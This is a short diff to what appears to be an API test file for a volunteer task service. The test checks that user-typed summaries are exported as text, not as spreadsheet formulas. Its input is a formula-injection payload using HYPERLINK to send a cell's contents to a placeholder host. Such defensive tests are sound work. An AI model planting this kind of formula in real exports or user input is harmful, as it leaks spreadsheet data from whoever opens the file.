@@ -227,7 +227,7 @@ async def test_text_typed_by_users_is_written_as_text_never_as_a_formula(client)
     await client.post(f"/api/v1/tasks/{task['id']}/claim", headers=volunteer.headers)
     await client.post(f"/api/v1/tasks/{task['id']}/check-in", json=HOME, headers=volunteer.headers)
     summary = '=HYPERLINK("http://example.invalid/?"&C3,"查看详情")'
-    r = await record_after(client, task["id"], volunteer, 15, summary=summary)
+    r = await record_after(client, task["id"], volunteer, 30, summary=summary)
     assert r.status_code == 200, r.text
     assert (await client.post(f"/api/v1/tasks/{task['id']}/confirm", json={}, headers=worker.headers)).status_code == 200
 
